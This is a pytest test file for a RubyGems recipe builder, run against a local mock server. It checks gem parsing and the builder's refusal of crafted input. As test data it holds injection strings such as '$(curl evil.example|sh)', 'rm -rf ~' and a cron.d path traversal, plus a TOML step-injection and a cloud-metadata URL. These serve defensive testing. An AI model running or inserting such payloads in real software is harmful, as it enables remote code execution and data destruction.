"""The RubyGems builder against a local server serving the gem API and real ``.gem`` files."""

from __future__ import annotations

import gzip
import io
import random
import re
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from generator_helpers import failure_of, recipe_of
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from recipeline_generator import RubygemsBuilder
from recipeline_generator.gem_archive import METADATA_CAP, GemError, parse_gemspec, read_gemspec
from recipeline_schema import Recipe, parse_recipe_toml, recipe_from_toml, recipe_to_toml
from recipeline_schema.http import HttpClient

FIXTURES = Path(__file__).resolve().parents[3] / ".." / "shared" / "fixtures" / "tsuku" / "recipes"


def yaml_list(items: list[str]) -> str:
    return "".join(f"- {item}\n" for item in items) if items else ""


def gemspec_yaml(
    name: str,
    version: str,
    executables: list[str] | None,
    *,
    raw_executables: str | None = None,
    summary: str = "summary: A tool\n",
) -> str:
    """A gemspec as Ruby's Psych writes it (Ruby object tags included)."""
    if raw_executables is not None:
        exe = raw_executables
    elif executables:
        exe = "executables:\n" + yaml_list(executables)
    else:
        exe = "executables: []\n"
    return (
        "--- !ruby/object:Gem::Specification\n"
        f"name: {name}\n"
        "version: !ruby/object:Gem::Version\n"
        f"  version: {version}\n"
        "platform: ruby\n"
        "authors:\n"
        "- Jane Doe\n"
        "autorequire:\n"
        "bindir: exe\n"
        "cert_chain: []\n"
        "date: 2024-01-01 00:00:00.000000000 Z\n"
        "dependencies:\n"
        "- !ruby/object:Gem::Dependency\n"
        "  name: thor\n"
        "  requirement: !ruby/object:Gem::Requirement\n"
        "    requirements:\n"
        '    - - "~>"\n'
        "      - !ruby/object:Gem::Version\n"
        "        version: '1.0'\n"
        "  type: :runtime\n"
        "  prerelease: false\n"
        "description: |-\n"
        "  A long description.\n"
        "  executables:\n"
        "  - not-this-one\n"
        "email:\n"
        "- jane@example.com\n"
        f"{exe}"
        "extensions: []\n"
        "extra_rdoc_files: []\n"
        "files:\n"
        "- exe/tool\n"
        "homepage: https://example.com\n"
        "licenses:\n"
        "- MIT\n"
        "metadata: {}\n"
        "rubygems_version: 3.5.3\n"
        "specification_version: 4\n"
        f"{summary}"
        "test_files: []\n"
    )


def build_gem(
    metadata_yaml: str | None, *, gzip_metadata: bool = True, filler: int = 0, metadata_last: bool = False
) -> bytes:
    """A real ``.gem``: an uncompressed tar of metadata.gz, data.tar.gz and checksums.yaml.gz.

    ``filler`` adds that many incompressible bytes to data.tar.gz; ``metadata_last`` writes
    metadata.gz after it (``gem build`` writes it first).
    """
    members: list[tuple[str, bytes]] = []
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as inner:
        for path, body in (
            ("exe/tool", b"#!/usr/bin/env ruby\nputs 'hi'\n"),
            ("lib/blob.bin", random.Random(filler).randbytes(filler)),
        ):
            info = tarfile.TarInfo(path)
            info.size = len(body)
            inner.addfile(info, io.BytesIO(body))
    members.append(("data.tar.gz", data.getvalue()))
    if metadata_yaml is not None:
        raw = metadata_yaml.encode()
        metadata = ("metadata.gz", gzip.compress(raw, mtime=0) if gzip_metadata else raw)
        members.insert(len(members) if metadata_last else 0, metadata)
    members.append(("checksums.yaml.gz", gzip.compress(b"---\nSHA256: {}\n", mtime=0)))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, payload in members:
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            info.mode = 0o444
            tar.addfile(info, io.BytesIO(payload))
    return out.getvalue()


def gem_info(name: str, version: str, **extra: Any) -> dict[str, Any]:
    """A ``/api/v1/gems/<name>.json`` answer in RubyGems' shape."""
    doc: dict[str, Any] = {
        "name": name,
        "downloads": 1000,
        "version": version,
        "platform": "ruby",
        "info": "A tool that does things",
        "homepage_uri": "https://tool.example",
        "source_code_uri": None,
        "documentation_uri": None,
        "project_uri": f"https://gems.invalid/gems/{name}",
        "gem_uri": f"https://gems.invalid/gems/{name}-{version}.gem",
    }
    doc.update(extra)
    return doc


@pytest.fixture
def gems(httpserver: HTTPServer) -> Iterator[HTTPServer]:
    """The local RubyGems server, 404 for anything not served."""
    httpserver.no_handler_status_code = 404
    yield httpserver
    httpserver.clear()


@pytest.fixture
def rubygems(http: HttpClient, gems: HTTPServer) -> RubygemsBuilder:
    """A RubyGems builder pointed at the local server's ``/api/v1``."""
    return RubygemsBuilder(http, api_url=gems.url_for("/api/v1"))


def publish(server: HTTPServer, name: str, version: str, gem: bytes, **info: Any) -> None:
    server.expect_request(f"/api/v1/gems/{name}.json").respond_with_json(gem_info(name, version, **info))
    server.expect_request(f"/gems/{name}-{version}.gem").respond_with_data(
        gem, content_type="application/octet-stream"
    )


def test_executables_from_the_gem_metadata(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    summary = "summary: The best way to manage your application's dependencies\n"
    publish(
        gems,
        "bundler",
        "2.5.3",
        build_gem(gemspec_yaml("bundler", "2.5.3", ["bundler", "bundle"], summary=summary)),
        info="Bundler manages an application's dependencies through its entire life, across many "
        "machines, systematically and repeatably",
    )

    text = recipe_to_toml(recipe_of(rubygems.generate("bundler", name="bundler")))

    assert text == (
        "[metadata]\n"
        'name = "bundler"\n'
        'description = "The best way to manage your application\'s dependencies"\n'
        'homepage = "https://tool.example"\n'
        "\n"
        "[[steps]]\n"
        'action = "gem_install"\n'
        'gem = "bundler"\n'
        'executables = ["bundle", "bundler"]\n'
        "\n"
        "[verify]\n"
        'command = "bundler --version"\n'
        'pattern = "{version}"\n'
    )


def test_platform_gem_file_name_and_source_code_homepage(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    gem = build_gem(gemspec_yaml("natty", "1.0.0", ["natty"]))
    gems.expect_request("/api/v1/gems/natty.json").respond_with_json(
        gem_info(
            "natty",
            "1.0.0",
            platform="x86_64-linux",
            homepage_uri=None,
            source_code_uri="https://code.example/natty",
        )
    )
    gems.expect_request("/gems/natty-1.0.0-x86_64-linux.gem").respond_with_data(gem)

    recipe = rubygems.generate("natty", name="natty")

    assert isinstance(recipe, Recipe) and recipe.homepage == "https://code.example/natty"


def test_gem_uri_of_the_answer_is_not_followed(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    publish(
        gems,
        "pointer",
        "1.0.0",
        build_gem(gemspec_yaml("pointer", "1.0.0", ["pointer"])),
        gem_uri="http://169.254.169.254/latest/meta-data",
    )

    assert isinstance(rubygems.generate("pointer", name="pointer"), Recipe)
    assert [req.path for req, _ in gems.log] == ["/api/v1/gems/pointer.json", "/gems/pointer-1.0.0.gem"]


def test_library_gem_is_binary_discovery_failed(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    publish(gems, "rack", "3.0.0", build_gem(gemspec_yaml("rack", "3.0.0", [])))

    failure = failure_of(rubygems.generate("rack", name="rack"))

    assert (failure.category, failure.subcategory) == (
        "deterministic_insufficient",
        "binary_discovery_failed",
    )
    assert failure.package_id == "rubygems:rack"


@pytest.mark.parametrize(
    ("gem", "why"),
    [
        (b"this is not a tar file at all" * 20, "tar"),
        (build_gem(None), "no metadata.gz"),
        (build_gem(gemspec_yaml("x", "1.0.0", ["x"]), gzip_metadata=False), "gzip"),
        (build_gem(gemspec_yaml("someone-else", "1.0.0", ["x"])), "another gem"),
        (
            build_gem(gemspec_yaml("broken", "1.0.0", None, raw_executables="executables: foo\n")),
            "not a YAML",
        ),
    ],
)
def test_unreadable_gems_are_archive_extraction_failed(
    rubygems: RubygemsBuilder, gems: HTTPServer, gem: bytes, why: str
) -> None:
    publish(gems, "broken", "1.0.0", gem)

    failure = failure_of(rubygems.generate("broken", name="broken"))

    assert failure.subcategory == "archive_extraction_failed"
    assert why in failure.message


def serve_ranged(server: HTTPServer, path: str, data: bytes, log: list[str | None]) -> None:
    """Serve ``data`` at ``path`` honouring ``Range: bytes=a-b``; log every Range header."""

    def handler(request: Request) -> Response:
        header = request.headers.get("Range")
        log.append(header)
        if not header:
            return Response(data, 200, content_type="application/octet-stream")
        m = re.fullmatch(r"bytes=(\d+)-(\d+)", header)
        assert m, header
        start, end = int(m[1]), min(int(m[2]), len(data) - 1)
        return Response(
            data[start : end + 1],
            206,
            headers={"Content-Range": f"bytes {start}-{end}/{len(data)}"},
            content_type="application/octet-stream",
        )

    server.expect_request(path).respond_with_handler(handler)


@pytest.mark.parametrize(
    ("metadata_last", "requests"), [(False, ["bytes=0-262143"]), (True, ["bytes=0-262143", None])]
)
def test_big_gem_is_read_from_its_first_bytes(
    rubygems: RubygemsBuilder, gems: HTTPServer, metadata_last: bool, requests: list[str | None]
) -> None:
    gem = build_gem(gemspec_yaml("big", "1.0.0", ["big"]), filler=600_000, metadata_last=metadata_last)
    gems.expect_request("/api/v1/gems/big.json").respond_with_json(gem_info("big", "1.0.0"))
    log: list[str | None] = []
    serve_ranged(gems, "/gems/big-1.0.0.gem", gem, log)

    recipe = rubygems.generate("big", name="big")

    assert isinstance(recipe, Recipe) and recipe.steps[0].params["executables"] == ("big",)
    assert log == requests  # metadata.gz after 600 kB of data: the start is not enough, one full GET


def test_gem_cut_inside_its_metadata_is_archive_extraction_failed(
    rubygems: RubygemsBuilder, gems: HTTPServer
) -> None:
    whole = build_gem(gemspec_yaml("cut", "1.0.0", ["cut"]) + "#" * 2000)
    publish(gems, "cut", "1.0.0", whole[:600])  # the header says more bytes than the file has

    failure = failure_of(rubygems.generate("cut", name="cut"))

    assert failure.subcategory == "archive_extraction_failed"
    assert "ends inside metadata.gz" in failure.message


def test_gzip_bomb_metadata_is_refused() -> None:
    bomb = build_gem("name: bomb\n" + "#" * (METADATA_CAP + 10))
    with pytest.raises(GemError, match="cap"):
        read_gemspec(bomb)


HOSTILE = [
    "'../../../etc/cron.d/evil'",
    '"a\\"; rm -rf ~; \\""',
    '"two\\nlines"',
    "$(curl evil.example|sh)",
    "!ruby/object:Gem::Evil x",
    "&anchor x",
    "'a b'",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_crafted_gem_executables_fail(rubygems: RubygemsBuilder, gems: HTTPServer, hostile: str) -> None:
    raw = f"executables:\n- crafted\n- {hostile}\n"
    publish(gems, "crafted", "1.0.0", build_gem(gemspec_yaml("crafted", "1.0.0", None, raw_executables=raw)))

    failure = failure_of(rubygems.generate("crafted", name="crafted"))

    assert failure.subcategory == "binary_discovery_failed", failure.message
    assert "\n" not in failure.message


def test_crafted_gem_info_stays_inside_toml_strings(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    evil = '"\n[[steps]]\naction = "run_command"\ncommand = "id"'
    publish(gems, "textual", "1.0.0", build_gem(gemspec_yaml("textual", "1.0.0", ["textual"])), info=evil)

    recipe = rubygems.generate("textual", name="textual")

    assert isinstance(recipe, Recipe)
    parsed = parse_recipe_toml(recipe_to_toml(recipe))
    assert [s["action"] for s in parsed["steps"]] == ["gem_install"]


@pytest.mark.parametrize("identifier", ["../x", "a/b", "x;y", "a..b", "-x"])
def test_hostile_gem_names_are_refused_without_requests(
    rubygems: RubygemsBuilder, gems: HTTPServer, identifier: str
) -> None:
    assert not rubygems.can_build(identifier)
    assert failure_of(rubygems.generate(identifier, name="x")).subcategory == "unsupported_source"
    assert gems.log == []


def test_unsafe_version_in_the_answer_is_bad_response(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    gems.expect_request("/api/v1/gems/sly.json").respond_with_json(gem_info("sly", "../../1.0"))

    failure = failure_of(rubygems.generate("sly", name="sly"))

    assert (failure.category, failure.subcategory) == ("api_error", "bad_response")
    assert len(gems.log) == 1


def test_missing_gem_and_missing_gem_file_are_not_found(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    gems.expect_request("/api/v1/gems/halfway.json").respond_with_json(gem_info("halfway", "1.0.0"))

    missing = failure_of(rubygems.generate("nope", name="nope"))
    no_file = failure_of(rubygems.generate("halfway", name="halfway"))

    assert (missing.subcategory, no_file.subcategory) == ("not_found", "not_found")
    assert "halfway-1.0.0.gem" in no_file.message


def test_no_https_homepage_gives_a_recipe_without_one(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    publish(
        gems,
        "nohome",
        "1.0.0",
        build_gem(gemspec_yaml("nohome", "1.0.0", ["nohome"])),
        homepage_uri="http://nohome.example",
        documentation_uri=gems.url_for("/docs"),
    )

    assert recipe_of(rubygems.generate("nohome", name="nohome")).homepage == ""


def test_gemspec_reader_forms() -> None:
    spec = parse_gemspec(
        "--- !ruby/object:Gem::Specification\nname: 'quoted'\n"
        "executables:\n  - \"dq\"\n  - 'sq'\n  - plain # c\n"
    )
    assert spec.name == "quoted" and spec.executables == ("dq", "sq", "plain")
    assert parse_gemspec("name: x\nexecutables: [a, 'b']\n").executables == ("a", "b")
    assert parse_gemspec("name: x\n").executables == ()
    with pytest.raises(GemError, match="two top-level"):
        parse_gemspec("name: x\nexecutables:\n- a\nexecutables:\n- b\n")
    with pytest.raises(GemError, match="no top-level 'name'"):
        parse_gemspec("executables: []\n")


def test_same_gem_gives_byte_identical_recipes(http: HttpClient, gems: HTTPServer) -> None:
    publish(gems, "multi", "1.0.0", build_gem(gemspec_yaml("multi", "1.0.0", ["zz", "multi", "aa"])))
    builder = RubygemsBuilder(http, api_url=gems.url_for("/api/v1"))

    first, second = (recipe_to_toml(recipe_of(builder.generate("multi", name="multi"))) for _ in range(2))

    assert first == second and 'executables = ["aa", "multi", "zz"]' in first


@pytest.mark.parametrize("fixture", ["b/bundler.toml", "p/pandocomatic.toml"])
def test_step_has_the_shape_of_tsuku_recipes(
    rubygems: RubygemsBuilder, gems: HTTPServer, fixture: str
) -> None:
    path = FIXTURES / fixture
    if not path.is_file():
        pytest.skip(f"tsuku fixtures not present at {FIXTURES}")
    real = recipe_from_toml(path.read_text(encoding="utf-8"), str(path))
    gem = real.steps[0].params["gem"]
    exes = list(real.steps[0].params["executables"])
    publish(gems, gem, "1.0.0", build_gem(gemspec_yaml(gem, "1.0.0", exes[::-1])))

    ours = rubygems.generate(gem, name=real.name)

    assert isinstance(ours, Recipe)
    assert ours.actions == real.actions == ("gem_install",)
    assert dict(ours.steps[0].params) == {"gem": gem, "executables": tuple(exes)}


@pytest.mark.parametrize(
    ("summary", "expected"),
    [
        # Psych folds a long plain scalar over indented lines
        (
            "summary: A very long summary that Psych folds at eighty columns because it is longer\n"
            "  than the line width\n",
            "A very long summary that Psych folds at eighty columns because it is longer than the line width",
        ),
        ('summary: "Quoted: with a colon"\n', "Quoted: with a colon"),
        ("summary: 'It''s single quoted'\n", "It's single quoted"),
        ("summary: |-\n  A block\n  scalar\n", "A block scalar"),
        ("summary: !binary |-\n  QmluYXJ5\n", "the info text"),  # a tag: not understood, info is used
        ("", "the info text"),  # no summary at all: the info text
    ],
)
def test_description_is_the_gemspec_summary_else_the_info(
    rubygems: RubygemsBuilder, gems: HTTPServer, summary: str, expected: str
) -> None:
    publish(
        gems,
        "sum",
        "1.0.0",
        build_gem(gemspec_yaml("sum", "1.0.0", ["sum"], summary=summary)),
        info="the info text",
    )

    assert recipe_of(rubygems.generate("sum", name="sum")).description == expected


def test_http_forge_links_of_old_gems_become_https_others_are_dropped(
    rubygems: RubygemsBuilder, gems: HTTPServer
) -> None:
    """Older gems list only http:// links (RubyGems keeps what the gemspec said)."""
    gem = build_gem(gemspec_yaml("oldie", "0.9.0", ["oldie"]))
    publish(
        gems,
        "oldie",
        "0.9.0",
        gem,
        homepage_uri="http://oldie.rubyforge.org",
        documentation_uri="http://api.oldie.example",
        wiki_uri="",
        source_code_uri="http://github.com/someone/oldie",
    )
    assert recipe_of(rubygems.generate("oldie", name="oldie")).homepage == "https://github.com/someone/oldie"

    publish(
        gems,
        "lost",
        "0.1.0",
        build_gem(gemspec_yaml("lost", "0.1.0", ["lost"])),
        homepage_uri="http://lost.example.org/",
    )
    assert recipe_of(rubygems.generate("lost", name="lost")).homepage == ""  # http elsewhere: left out


@pytest.mark.parametrize(
    ("field", "value"),
    [("version", None), ("version", 3), ("version", ["1.0"]), ("platform", 7), ("platform", "../x")],
)
def test_missing_null_or_wrong_typed_gem_fields_are_bad_response(
    rubygems: RubygemsBuilder, gems: HTTPServer, field: str, value: Any
) -> None:
    gems.expect_request("/api/v1/gems/odd.json").respond_with_json(gem_info("odd", "1.0.0") | {field: value})

    failure = failure_of(rubygems.generate("odd", name="odd"))

    assert (failure.category, failure.subcategory) == ("api_error", "bad_response")
    assert f"'{field}'" in failure.message


def test_a_missing_version_key_is_bad_response(rubygems: RubygemsBuilder, gems: HTTPServer) -> None:
    doc = gem_info("odd", "1.0.0")
    del doc["version"]
    gems.expect_request("/api/v1/gems/odd.json").respond_with_json(doc)
    assert "'version'" in failure_of(rubygems.generate("odd", name="odd")).message
